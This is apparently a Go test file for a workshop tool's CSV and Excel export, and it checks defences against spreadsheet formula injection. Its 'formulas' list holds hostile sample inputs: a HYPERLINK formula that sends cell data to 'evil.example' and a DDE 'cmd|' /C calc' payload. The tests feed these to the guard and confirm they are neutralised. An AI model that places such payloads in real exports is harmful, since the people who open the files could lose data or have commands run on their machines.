package tables_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/charmbracelet/x/exp/golden"
	"github.com/xuri/excelize/v2"

	"swotshop/e2e/held"
	"swotshop/e2e/hostile"
	"swotshop/prompts"
	"swotshop/workshop"
	"swotshop/workshop/blueprint/tables"
)

// formulas are what spreadsheets begin to compute at, or once did, also behind what nobody
// sees, and what only looks like it.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Open")`, `=1+1`, `+1+cmd|' /C calc'!A0`, `-5 % of staff left`, `@SUM(1;2)`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`,
	`'=1+1`, `"=1+1"`, `"`, `a"b`, `;=1+1`, `,=1+1`, `0123`, `1e5`, `12/03/2026`, `TRUE`, `http://evil.example`, `_x0041_`, `_x003D_1+1`, `_x005F_x0041_`, `__x0078_0041_`, `_x0041_x0042_`, `_x0041__x0042_x`, `_x00_x0041_1_`, `&lt;b&gt;`, `]]>`, `#REF!`,
}

// written is every table of a session as a file, by its name.
func written(t *testing.T, w *workshop.Workshop, separator rune) map[string][]byte {
	t.Helper()
	files := map[string][]byte{}
	for _, table := range tables.Of(w) {
		data, err := tables.CSV(table, separator)
		if err != nil {
			t.Fatal(err)
		}
		files[table.Name] = data
	}
	return files
}

func workbook(t *testing.T, w *workshop.Workshop) []byte {
	t.Helper()
	data, err := tables.Workbook(tables.Of(w))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// After a wanted change: go test ./workshop/blueprint/tables -run TestGolden -update
func TestGolden(t *testing.T) {
	files := written(t, held.Demo(t).State(), ',')
	for _, name := range []string{"initiatives", "votes", "stances", "actions"} {
		t.Run(name, func(t *testing.T) { golden.RequireEqual(t, files[name]) })
	}
}

// A session of which nothing is known has all tables, with their heads alone.
func TestAnEmptySessionHasAllTables(t *testing.T) {
	names := []string{}
	for _, table := range tables.Of(workshop.NewLog().State()) {
		names = append(names, table.Name)
		if len(table.Columns) < 10 || len(table.Rows) > 0 {
			t.Errorf("%s has %d columns and %d rows", table.Name, len(table.Columns), len(table.Rows))
		}
	}
	if want := []string{"initiatives", "items", "votes", "stances", "actions"}; !slices.Equal(names, want) {
		t.Errorf("%v, want %v", names, want)
	}
}

// The first columns of what is to be done are called as trackers call them.
func TestATrackerKnowsTheColumns(t *testing.T) {
	for _, table := range tables.Of(held.Demo(t).State()) {
		if table.Name != "initiatives" && table.Name != "actions" {
			continue
		}
		for i, want := range []string{"Summary", "Description", "Assignee", "Due date", "Labels", "External ID"} {
			if got := table.Columns[i].Name; got != want {
				t.Errorf("%s, column %d is %q, want %q", table.Name, i, got, want)
			}
		}
		for _, c := range table.Columns {
			if strings.ContainsFunc(c.Name, func(r rune) bool { return !unicode.IsLetter(r) && !unicode.IsDigit(r) && r != ' ' }) {
				t.Errorf("%s: %q has a sign that an import stumbles over", table.Name, c.Name)
			}
		}
	}
}

// comesAlive reports whether a spreadsheet would take a text for a formula. It is written
// here once more, so that a slip in the guard shows.
func comesAlive(text string) bool {
	text = strings.TrimLeftFunc(text, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	for _, sign := range []string{"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"} {
		if strings.HasPrefix(text, sign) {
			return true
		}
	}
	return false
}

// checkCSV reads a table back as any program does, and compares it with what the session
// says.
func checkCSV(t *testing.T, table tables.Table, separator rune) {
	t.Helper()
	data, err := tables.CSV(table, separator)
	if err != nil {
		t.Fatal(err)
	}
	text, marked := bytes.CutPrefix(data, []byte("\xef\xbb\xbf"))
	if !marked || !bytes.HasSuffix(text, []byte("\r\n")) || bytes.Count(text, []byte("\n")) != bytes.Count(text, []byte("\r\n")) {
		t.Errorf("%s: the mark or an end of a line is missing", table.Name)
	}
	in := csv.NewReader(bytes.NewReader(text))
	in.Comma = separator
	rows, err := in.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", table.Name, err)
	}
	if len(rows) != len(table.Rows)+1 {
		t.Fatalf("%s has %d rows, want %d", table.Name, len(rows), len(table.Rows)+1)
	}
	if bytes.Contains(data, []byte(held.Secret)) {
		t.Fatalf("%s has a private note", table.Name)
	}
	for y, row := range rows[1:] {
		for x, got := range row {
			c := table.Rows[y][x]
			switch want := c.Text; {
			case c.Kind != tables.Words && got != want:
				t.Fatalf("%s: %q, want %q as it is", table.Name, got, want)
			case c.Kind == tables.Words && strings.TrimPrefix(got, "'") != strings.TrimPrefix(want, "'"):
				t.Fatalf("%s: %q, want %q", table.Name, got, want)
			case c.Kind == tables.Words && comesAlive(got):
				t.Fatalf("%s: %q comes alive", table.Name, got)
			case len(hostile.Unclean(strings.ReplaceAll(got, "\n", ""))) > 0:
				t.Fatalf("%s: %v", table.Name, hostile.Unclean(got))
			}
		}
	}
}

// checkWorkbook opens a workbook as a spreadsheet does.
func checkWorkbook(t *testing.T, all []tables.Table) {
	t.Helper()
	data, err := tables.Workbook(all)
	if err != nil {
		t.Fatal(err)
	}
	checkParts(t, data)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	sheets := f.GetSheetList()
	if len(sheets) != len(all) {
		t.Fatalf("%d sheets, want %d", len(sheets), len(all))
	}
	for n, table := range all {
		rows, err := f.GetRows(sheets[n], excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(table.Rows)+1 {
			t.Fatalf("%s has %d rows, want %d", sheets[n], len(rows), len(table.Rows)+1)
		}
		for y, row := range table.Rows {
			for x, c := range row {
				got := ""
				if x < len(rows[y+1]) {
					got = rows[y+1][x]
				}
				checkCell(t, f, sheets[n], x+1, y+2, c, got)
			}
		}
	}
}

func checkCell(t *testing.T, f *excelize.File, sheet string, x, y int, c tables.Cell, got string) {
	t.Helper()
	at, err := excelize.CoordinatesToCellName(x, y)
	if err != nil {
		t.Fatal(err)
	}
	kind, err := f.GetCellType(sheet, at)
	if err != nil {
		t.Fatal(err)
	}
	isText := kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString
	switch c.Kind {
	case tables.Day:
		days, err := strconv.ParseFloat(got, 64)
		if err != nil || isText {
			t.Fatalf("%s!%s: %q is no day", sheet, at, got)
		}
		if on, err := excelize.ExcelDateToTime(days, false); err != nil || on.Format(time.DateOnly) != c.Text {
			t.Fatalf("%s!%s: %v, want %s", sheet, at, on, c.Text)
		}
	case tables.Number:
		if n, err := strconv.ParseFloat(got, 64); err != nil || n != c.Number || isText {
			t.Fatalf("%s!%s: %q, want the number %v", sheet, at, got, c.Number)
		}
	default:
		if got != c.Text || got != "" && !isText {
			t.Fatalf("%s!%s: %q, want the text %q", sheet, at, got, c.Text)
		}
	}
}

// alive are parts of a sheet that do something.
var alive = []string{"f", "hyperlink", "hyperlinks", "legacyDrawing", "oleObject", "control", "dataValidation", "extLst"}

// checkParts reads all parts of a workbook: well-formed, nothing alive, no private note.
func checkParts(t *testing.T, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(text, []byte(held.Secret)) {
			t.Fatalf("%s has a private note", part.Name)
		}
		if strings.HasSuffix(part.Name, ".rels") && bytes.Contains(text, []byte(`TargetMode="External"`)) {
			t.Fatalf("%s leads out of the file: %s", part.Name, text)
		}
		for dec := xml.NewDecoder(bytes.NewReader(text)); ; {
			token, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			if start, ok := token.(xml.StartElement); ok && strings.HasPrefix(part.Name, "xl/worksheets/") && slices.Contains(alive, start.Name.Local) {
				t.Fatalf("%s has a %s", part.Name, start.Name.Local)
			}
		}
	}
}

// Whatever happens in a session, its tables read back as they were written, in both forms,
// with nothing alive in them and no private note.
func TestEverySessionReadsBack(t *testing.T) {
	texts := append(hostile.Packed(workshop.MaxText/2, workshop.Clean, workshop.Length), formulas...)
	negative, notes := 0, 0
	for seed := range uint64(40) {
		w := held.Random(seed, texts).State()
		notes += len(w.PrivateNotes)
		all := tables.Of(w)
		for _, table := range all {
			for y, row := range table.Rows {
				if len(row) != len(table.Columns) {
					t.Fatalf("%s: row %d has %d cells for %d columns", table.Name, y, len(row), len(table.Columns))
				}
				for _, c := range row {
					if c.Number < 0 {
						negative++
					}
				}
			}
			checkCSV(t, table, []rune{',', ';', '\t'}[seed%3])
		}
		checkWorkbook(t, all)
	}
	if negative == 0 || notes == 0 {
		t.Errorf("%d numbers below zero, %d private notes: this proves less than it should", negative, notes)
	}
}

// Every hostile text is dead wherever it can stand: as an item, an owner, a client.
func TestHostileTextsAreDead(t *testing.T) {
	var texts []string
	for _, raw := range append(hostile.Raw(), formulas...) {
		for _, text := range []string{raw, "=" + raw, "\t@" + raw} {
			text = workshop.Clean(text)
			for workshop.Length(text) > workshop.MaxText {
				text = workshop.Clean(text[:len(text)*9/10])
			}
			if text != "" {
				texts = append(texts, text)
			}
		}
	}
	said := 0
	say := func() string { said++; return texts[(said-1)%len(texts)] }
	for said < 3*len(texts) {
		first, next := held.Full(say)
		for _, w := range []*workshop.Workshop{first.State(), next.State()} {
			if len(w.Items) == 0 || len(w.Initiatives) == 0 {
				t.Fatal("the session is empty")
			}
			all := tables.Of(w)
			for _, table := range all {
				checkCSV(t, table, ';')
			}
			checkWorkbook(t, all)
		}
	}
}

// The guard sees through what nobody sees, and is in nobody's way.
func TestDefused(t *testing.T) {
	for _, text := range []string{"=1", "+1", "-1", "@a", "＝1", "＋1", "－1", "＠a", " =1", "\t=1", "\r=1", "\n=1", "\u00a0=1", " \t\r\n －1"} {
		if got := tables.Defused(text); got != "'"+text {
			t.Errorf("%q became %q", text, got)
		}
	}
	for _, text := range []string{"", " ", "a=1", "1-2", "'=1", "31 of 34", "–5 %", "(-1)"} {
		if got := tables.Defused(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// The same session gives the same bytes: again, and after all that happened is read anew.
func TestSameBytesEveryTime(t *testing.T) {
	for seed := range uint64(5) {
		log := held.Random(seed, formulas)
		again, err := workshop.Replay(log.Events())
		if err != nil {
			t.Fatal(err)
		}
		want, book := written(t, log.State(), ','), workbook(t, log.State())
		for range 5 {
			for name, data := range written(t, again.State(), ',') {
				if !bytes.Equal(data, want[name]) {
					t.Fatalf("%s has other bytes", name)
				}
			}
			if !bytes.Equal(workbook(t, again.State()), book) {
				t.Fatal("the workbook has other bytes")
			}
		}
	}
}

// As long as the room has not seen the votes, no table tells of them.
func TestHiddenVotesStayHidden(t *testing.T) {
	hidden := 0
	for seed := range uint64(30) {
		w := held.Random(seed, formulas).State()
		if w.VotesShown() {
			continue
		}
		if w.VotesTaken() {
			hidden++
		}
		for _, table := range tables.Of(w) {
			if table.Name == "votes" && len(table.Rows) > 0 {
				t.Fatal("the votes are there")
			}
			for x, c := range table.Columns {
				if c.Name != "Votes" && c.Name != "Carried" {
					continue
				}
				for _, row := range table.Rows {
					if !row[x].Empty() {
						t.Fatalf("%s says %q", table.Name, row[x].Text)
					}
				}
			}
		}
	}
	if hidden == 0 {
		t.Error("no session had votes to hide")
	}
}

// A follow-up calls an action as the session did that wrote it, so that a tracker finds it
// again.
func TestAnActionHasTheIDOfItsInitiative(t *testing.T) {
	first, next := held.Full(func() string { return "Answer where buyers ask" })
	column := func(t tables.Table) (ids []string) {
		for _, row := range t.Rows {
			ids = append(ids, row[5].Text)
		}
		return ids
	}
	was, is := column(tables.Of(first.State())[0]), column(tables.Of(next.State())[4])
	if len(is) == 0 || !slices.Equal(was, is) || was[0] != "7f3kq2m9x4-I1" {
		t.Errorf("%v, and then %v", was, is)
	}
}

// A sheet is called as the session says it, as far as a spreadsheet can.
func TestSheetsSpeakTheLanguageOfTheSession(t *testing.T) {
	german := func(change func(map[string]string)) []string {
		deck, err := prompts.Open("").Deck("social-board-de")
		if err != nil {
			t.Fatal(err)
		}
		change(deck.Words)
		log := workshop.NewLog()
		if _, err := log.Do(workshop.OpenSession{
			Session: "7f3kq2m9x4", Deck: deck, Details: workshop.Details{Client: "Muster AG", Title: "Tag", Date: "2026-03-12", People: 8},
			Agenda: workshop.Agenda{ID: "a", Title: "A", Stages: []workshop.Stage{{Kind: workshop.StageCapture, Title: "S", Minutes: 9}}},
		}, workshop.Stamp{At: time.Date(2026, 3, 12, 9, 0, 0, 0, time.UTC), NewID: func() string { return "e1" }, Actor: "facilitator"}); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(workbook(t, log.State())))
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = f.Close() }()
		return f.GetSheetList()
	}
	got := german(func(map[string]string) {})
	if want := []string{"Initiativen", "Punkte", "Stimmen", "Standpunkte", "Maßnahmen"}; !slices.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
	got = german(func(words map[string]string) {
		words["document.sheets.initiatives"], words["document.sheets.items"] = "[a]:*?/\\", "'''"
		words["document.sheets.votes"], words["document.sheets.stances"], words["document.sheets.actions"] = "Votes", "VOTES", "history"
	})
	if want := []string{"initiatives", "items", "Votes", "stances", "actions"}; !slices.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
}

// A row is as high as its words, also where the program that opens the workbook does not see
// to it.
func TestARowIsAsHighAsItsWords(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(workbook(t, held.Demo(t).State())))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for row, least := range map[int]float64{1: 15, 2: 9 * 15, 3: 9 * 15} { // the head, and nine answers in a line each
		if got, err := f.GetRowHeight("Initiatives", row); err != nil || got < least || got > 3*least {
			t.Errorf("row %d is %v high, want at least %v: %v", row, got, least, err)
		}
	}
}

// The text of a card may come from a file that nobody cleaned.
func TestACardFromAFileIsCleaned(t *testing.T) {
	unclean := 0
	for _, raw := range hostile.Raw() {
		unclean += len(hostile.Unclean(raw))
		log := workshop.NewLog()
		stamp := workshop.Stamp{At: time.Date(2026, 3, 12, 9, 0, 0, 0, time.UTC), NewID: func() string { return "e" + strconv.Itoa(len(log.Events())) }, Actor: "facilitator"}
		for _, i := range []workshop.Intent{
			workshop.OpenSession{
				Session: "7f3kq2m9x4", Details: workshop.Details{Client: "Acme", Title: "Day", Date: "2026-03-12", People: 8},
				Deck:   workshop.Deck{ID: "d", Version: 1, Title: "D", Cards: []workshop.Card{{ID: "V1", Question: raw, Poles: [2]string{raw, raw}}}},
				Agenda: workshop.Agenda{ID: "a", Title: "A", Stages: []workshop.Stage{{Kind: workshop.StageCapture, Title: "S", Minutes: 9}}},
			},
			workshop.AddItem{Quadrant: workshop.Threats, Text: "Rumours", Card: "V1"},
			workshop.TakeStance{Card: "V1", Moment: workshop.Before, Counts: [5]int{1, 2, 3}},
		} {
			if _, err := log.Do(i, stamp); err != nil {
				t.Fatal(err)
			}
		}
		for _, table := range tables.Of(log.State()) {
			checkCSV(t, table, ',')
		}
	}
	if unclean == 0 {
		t.Error("no text was unclean")
	}
}

// More than a cell can hold is cut between two characters, and says so.
func TestACellIsNeverTooLong(t *testing.T) {
	for _, text := range []string{strings.Repeat("a", 32767), strings.Repeat("a", 32768), strings.Repeat("👩", 20000), "a" + strings.Repeat("👩", 20000)} {
		table := tables.Table{Name: "long", Title: "Long", Columns: []tables.Column{{Name: "Text", Width: 20}}, Rows: [][]tables.Cell{{{Text: text}}}}
		data, err := tables.Workbook([]tables.Table{table})
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		got, err := f.GetCellValue("Long", "A2")
		if err != nil {
			t.Fatal(err)
		}
		cut, more := strings.CutSuffix(got, "…")
		if len(text) == 32767 && got != text || len(text) > 32767 && (!more || !strings.HasPrefix(text, cut) || len(cut) < 32000) {
			t.Errorf("%d bytes became %d", len(text), len(got))
		}
	}
}

// What separates cells can be chosen among what spreadsheets know, and nothing else.
func TestASeparatorIsOne(t *testing.T) {
	table := tables.Of(held.Demo(t).State())[1]
	for _, separator := range ",;\t|" {
		checkCSV(t, table, separator)
	}
	for _, separator := range []rune{0, 'a', '"', '\n', '\r', '\'', '-', '=', ' ', unicode.ReplacementChar, '\ufeff'} {
		if data, err := tables.CSV(table, separator); err == nil || tables.Separates(separator) {
			t.Errorf("%q separates: %d bytes", separator, len(data))
		}
	}
}
